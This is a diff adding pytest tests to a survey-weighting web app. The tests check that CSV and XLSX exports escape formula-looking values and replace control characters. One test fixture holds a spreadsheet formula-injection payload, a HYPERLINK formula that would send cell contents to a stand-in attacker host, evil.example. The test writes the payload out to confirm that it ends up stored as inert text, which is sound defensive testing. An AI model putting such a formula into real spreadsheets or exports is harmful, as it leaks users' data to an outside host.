@@ -7,6 +7,7 @@ import io
 import numpy as np
 import pandas as pd
 import pytest
+from openpyxl import load_workbook
 from sqlalchemy import select
 
 import weighting
@@ -219,3 +220,40 @@ def test_quality_rules_by_hand():
     m = quality(table.iloc[[3, 4, 5]].reset_index(drop=True), "mean")
     assert m["quality"].tolist() == ["publish", "caution", "suppress"]
     assert np.isnan(m["estimate"][2]) and m["estimate"][1] == 10.0
+
+
+def test_csv_and_xlsx_keep_formula_looking_domains_as_text_and_numbers_as_numbers(app, client, session):
+    world = build(app)
+    levels = {"15_34": '=HYPERLINK("http://evil.example/?d="&A1,"open")', "35_65": "-2+3"}
+    for unit in session.scalars(select(FrameUnit)):
+        unit.attributes = {**unit.attributes, "age_group": levels[unit.attributes["age_group"]]}
+    session.commit()
+    scheme = client.post(f"/api/v1/surveys/{world.project_id}/weighting-schemes/", json={"name": "main", "spec": spec_with_draw(world)}, headers=bearer(world.token))
+    run = client.post(f"/api/v1/surveys/{world.project_id}/weighting-schemes/{scheme.json['id']}/versions/1/compute", headers=bearer(world.token))
+    assert run.status_code == 201, run.json
+    params = {"variables": "overall", "by": "age_group", "statistic": "proportion"}
+    rows = _get(client, world, scheme.json["id"], **params).json["rows"]
+    assert {r["by"]["age_group"] for r in rows} == set(levels.values())  # the JSON keeps the values as they are
+    csv = pd.read_csv(io.BytesIO(_get(client, world, scheme.json["id"], format="csv", **params).data), encoding="utf-8-sig")
+    book = load_workbook(io.BytesIO(_get(client, world, scheme.json["id"], format="xlsx", **params).data))
+    sheet = pd.DataFrame(list(book["estimates"].values)[1:], columns=next(book["estimates"].values))
+    for table in (csv, sheet):
+        assert set(table["age_group"]) == {"'" + v for v in levels.values()}
+        assert table["age_group"].str.removeprefix("'").tolist() == [r["by"]["age_group"] for r in rows]
+        for column in ("estimate", "se", "ci_low", "ci_high", "n"):
+            assert pd.api.types.is_numeric_dtype(table[column]), column
+    assert all(cell.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for cell in row)
+
+
+def test_xlsx_of_domains_with_control_characters(app, client, session):
+    world = build(app)
+    levels = {"15_34": "15\x0b34", "35_65": "35\x0265"}
+    for unit in session.scalars(select(FrameUnit)):
+        unit.attributes = {**unit.attributes, "age_group": levels[unit.attributes["age_group"]]}
+    session.commit()
+    scheme = client.post(f"/api/v1/surveys/{world.project_id}/weighting-schemes/", json={"name": "main", "spec": spec_with_draw(world)}, headers=bearer(world.token))
+    assert client.post(f"/api/v1/surveys/{world.project_id}/weighting-schemes/{scheme.json['id']}/versions/1/compute", headers=bearer(world.token)).status_code == 201
+    xlsx = _get(client, world, scheme.json["id"], variables="overall", by="age_group", statistic="proportion", format="xlsx")
+    assert xlsx.status_code == 200
+    sheet = load_workbook(io.BytesIO(xlsx.data))["estimates"]
+    assert {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)} == {"15\ufffd34", "35\ufffd65"}
